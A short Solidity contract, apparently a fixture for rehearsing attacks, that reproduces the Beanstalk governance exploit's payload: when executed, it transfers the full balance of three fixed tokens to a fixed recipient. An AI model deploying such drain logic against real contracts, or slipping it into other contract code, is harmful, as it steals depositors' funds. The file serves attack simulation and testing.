// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {ISiloProgram} from "./ISiloProgram.sol";

/// @title Sends all listed coins of whoever runs it to one account.
/// @notice For rehearsing attacks: the program of the proposal that emptied Beanstalk.
contract DrainProgram is ISiloProgram {
    using SafeERC20 for IERC20;

    // A program runs on the silo's storage, so that its own facts must be in its code.
    address private immutable _TO;
    address private immutable _COIN0;
    address private immutable _COIN1;
    address private immutable _COIN2;

    /// @notice Fixes what is taken and where to.
    /// @param to Who gets it.
    /// @param coins Three coins.
    constructor(address to, address[3] memory coins) {
        _TO = to;
        (_COIN0, _COIN1, _COIN2) = (coins[0], coins[1], coins[2]);
    }

    /// @inheritdoc ISiloProgram
    function run() external {
        address[3] memory coins = [_COIN0, _COIN1, _COIN2];
        for (uint256 i = 0; i < 3; ++i) {
            IERC20 coin = IERC20(coins[i]);
            coin.safeTransfer(_TO, coin.balanceOf(address(this)));
        }
    }
}
